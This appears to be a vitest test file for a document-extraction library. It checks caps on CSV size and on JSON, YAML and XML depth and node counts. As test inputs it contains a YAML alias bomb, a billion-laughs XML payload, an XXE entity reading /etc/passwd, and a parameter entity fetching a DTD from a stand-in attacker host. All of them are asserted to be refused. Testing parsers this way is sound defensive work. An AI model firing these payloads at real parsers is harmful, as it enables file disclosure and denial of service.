import {
  DEFAULT_INPUT_LIMITS,
  INPUT_LIMITS,
  InputTooComplexError,
  type InputLimitName,
} from '@tandem/contracts';
import { describe, expect, it } from 'vitest';
import { ParseError } from './errors';
import { extractDocument } from './extract';
import { refusal } from './hostile-fixtures';

const utf8 = (value: string): Uint8Array => new TextEncoder().encode(value);

/** An InputTooComplexError for `limit` whose message names the limit's setting. */
function expectOver(error: Error, limit: InputLimitName): void {
  expect(error).toBeInstanceOf(InputTooComplexError);
  expect((error as InputTooComplexError).limit).toBe(limit);
  expect(error.message).toContain(`(${INPUT_LIMITS[limit].setting})`);
}

/** The 22.6 MB export the brief measured: a header and a million rows. */
function millionRowCsv(): Uint8Array {
  const lines = ['id,name,amount'];
  for (let row = 1; row <= 1_000_000; row += 1) lines.push(`${row},name-${row},${row % 997}`);
  return utf8(`${lines.join('\n')}\n`);
}

describe('CSV within CSV_MAX_ROWS and CSV_MAX_COLUMNS', () => {
  it('reads the first 100,000 rows of a 1,000,001-line file and says so', async () => {
    const csv = millionRowCsv();
    expect(csv.length).toBeGreaterThan(20_000_000);
    const result = await extractDocument(csv, { fileName: 'export.csv' });
    const lines = result.markdown.split('\n');
    expect(lines).toHaveLength(2 + 100_000);
    expect(lines[0]).toBe('| id | name | amount |');
    expect(lines[2]).toBe('| 1 | name-1 | 1 |');
    expect(lines.at(-1)).toBe('| 100000 | name-100000 | 300 |');
    expect(result.warnings).toEqual(['Read the first 100,000 of 1,000,000 rows (CSV_MAX_ROWS).']);
  });

  it('keeps every row of a file within the limit, without a warning', async () => {
    const result = await extractDocument(utf8('a,b\n1,2\n3,4\n'), {
      fileName: 'small.csv',
      limits: { ...DEFAULT_INPUT_LIMITS, csvMaxRows: 2 },
    });
    expect(result.markdown.split('\n')).toHaveLength(4);
    expect(result.warnings).toEqual([]);
  });

  it('refuses a row of 100,000 columns', async () => {
    const header = Array.from({ length: 100_000 }, (_, index) => `c${index}`).join(',');
    const error = await refusal(extractDocument(utf8(`${header}\n1,2\n`), { fileName: 'w.csv' }));
    expectOver(error, 'csvMaxColumns');
    expect(error.message).toBe(
      'The file has a row of 100,000 columns; the limit is 1,000 columns (CSV_MAX_COLUMNS).',
    );
  });

  it('counts columns outside quotes only', async () => {
    const quoted = `"${','.repeat(5_000)}",b\n1,2\n`;
    const result = await extractDocument(utf8(quoted), { fileName: 'q.csv' });
    expect(result.markdown.split('\n')[0]).toContain(' | b |');
  });
});

describe('JSON, YAML and XML within STRUCTURED_MAX_DEPTH and STRUCTURED_MAX_NODES', () => {
  it('refuses deeply nested JSON before parsing it', async () => {
    const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    const error = await refusal(extractDocument(utf8(deep), { fileName: 'deep.json' }));
    expectOver(error, 'structuredMaxDepth');
    expect(error.message).toBe(
      'The JSON file nests at least 65 levels; the limit is 64 levels (STRUCTURED_MAX_DEPTH).',
    );
  });

  it('reads JSON nested up to the limit, brackets inside strings not counted', async () => {
    const text = `${'{"a":'.repeat(63)}"[[[[{{{{"${'}'.repeat(63)}`;
    const result = await extractDocument(utf8(text), { fileName: 'ok.json' });
    expect(result.markdown).toContain('[[[[{{{{');
  });

  it('refuses JSON with more values than the limit', async () => {
    const text = JSON.stringify({ list: Array.from({ length: 200 }, (_, index) => index) });
    const error = await refusal(
      extractDocument(utf8(text), {
        fileName: 'many.json',
        limits: { ...DEFAULT_INPUT_LIMITS, structuredMaxNodes: 100 },
      }),
    );
    expectOver(error, 'structuredMaxNodes');
    expect(error.message).toBe(
      'The JSON file has at least 101 values; the limit is 100 values (STRUCTURED_MAX_NODES).',
    );
  });

  it('refuses a YAML alias bomb with a plain parse error', async () => {
    const levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
    for (const [index, name] of ['b', 'c', 'd', 'e', 'f', 'g', 'h', 'i'].entries()) {
      const previous = String.fromCharCode(97 + index);
      levels.push(`${name}: &${name} [${Array(9).fill(`*${previous}`).join(',')}]`);
    }
    const error = await refusal(
      extractDocument(utf8(`${levels.join('\n')}\n`), { fileName: 'lol.yaml' }),
    );
    expect(error).toBeInstanceOf(ParseError);
    expect(error.message).toBe(
      'Could not parse YAML: its aliases (*name) repeat anchored content more often than is safe to expand.',
    );
  });

  it('refuses deeply nested YAML, block and flow', async () => {
    const block = Array.from({ length: 100 }, (_, index) => `${' '.repeat(index)}k:`).join('\n');
    expectOver(
      await refusal(extractDocument(utf8(`${block} 1\n`), { fileName: 'b.yaml' })),
      'structuredMaxDepth',
    );
    const flow = `${'['.repeat(20_000)}${']'.repeat(20_000)}`;
    expectOver(
      await refusal(extractDocument(utf8(flow), { fileName: 'f.yaml' })),
      'structuredMaxDepth',
    );
  });

  it('refuses YAML with more values than the limit', async () => {
    const yaml = Array.from({ length: 50 }, (_, index) => `k${index}: [1, 2]`).join('\n');
    const error = await refusal(
      extractDocument(utf8(yaml), {
        fileName: 'many.yaml',
        limits: { ...DEFAULT_INPUT_LIMITS, structuredMaxNodes: 100 },
      }),
    );
    expectOver(error, 'structuredMaxNodes');
  });

  it.each([
    [
      'an external entity (XXE)',
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>',
    ],
    [
      'entity expansion (billion laughs)',
      '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]><lolz>&lol2;</lolz>',
    ],
    [
      'a parameter entity',
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.test/x.dtd"> %p;]><r/>',
    ],
  ])('refuses XML with %s as a parse error', async (_case, xml) => {
    const error = await refusal(extractDocument(utf8(xml), { fileName: 'x.xml' }));
    expect(error).toBeInstanceOf(ParseError);
    expect(error.message).toBe(
      'Could not parse XML: its DOCTYPE declares entities (<!ENTITY …>), which are not read: they can pull in other files or expand without bound.',
    );
  });

  it('still reads XML with a DOCTYPE that declares no entities', async () => {
    const xml = '<?xml version="1.0"?><!DOCTYPE note SYSTEM "note.dtd"><note><to>Ada</to></note>';
    const result = await extractDocument(utf8(xml), { fileName: 'note.xml' });
    expect(result.title).toBe('note');
    expect(result.markdown).toBe('## to\n\nAda');
  });

  it('refuses deeply nested XML and XML with too many elements', async () => {
    const deep = `${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`;
    const error = await refusal(extractDocument(utf8(deep), { fileName: 'deep.xml' }));
    expectOver(error, 'structuredMaxDepth');
    const many = `<r>${'<i x="a>b"/>'.repeat(200)}<!-- <j> --><![CDATA[<k>]]></r>`;
    const tooMany = await refusal(
      extractDocument(utf8(many), {
        fileName: 'many.xml',
        limits: { ...DEFAULT_INPUT_LIMITS, structuredMaxNodes: 150 },
      }),
    );
    expectOver(tooMany, 'structuredMaxNodes');
    expect(tooMany.message).toBe(
      'The XML file has at least 151 values; the limit is 150 values (STRUCTURED_MAX_NODES).',
    );
  });
});

describe('text is read whatever its shape', () => {
  it('reads a 10 MB single-line text file', async () => {
    const line = 'word '.repeat(2_000_000);
    const result = await extractDocument(utf8(line), { fileName: 'one-line.txt' });
    expect(result.markdown).toBe(line.trimEnd());
  });

  it('reads 20 MB that is not UTF-8 (windows-1252) in linear time', async () => {
    // Built a character at a time, the string was a rope of 20 million pieces: 8 s and 700 MB.
    const bytes = new Uint8Array(20_000_000).fill(0xe9);
    for (let index = 79; index < bytes.length; index += 80) bytes[index] = 0x0a;
    const result = await extractDocument(bytes, { fileName: 'latin.txt' });
    expect(result.markdown.startsWith('é'.repeat(79))).toBe(true);
    expect(result.warnings).toEqual(['Not valid UTF-8: read as windows-1252.']);
  });

  it('trims 10 MB of trailing spaces in linear time', async () => {
    // `/[ \t]+$/` backtracks from every space of a run that does not end the line: quadratic.
    const text = `${' '.repeat(10_000_000)}x\nend   `;
    const result = await extractDocument(utf8(text), { fileName: 'spaces.md' });
    expect(result.markdown).toBe(`${' '.repeat(10_000_000)}x\nend`.trim());
  });
});
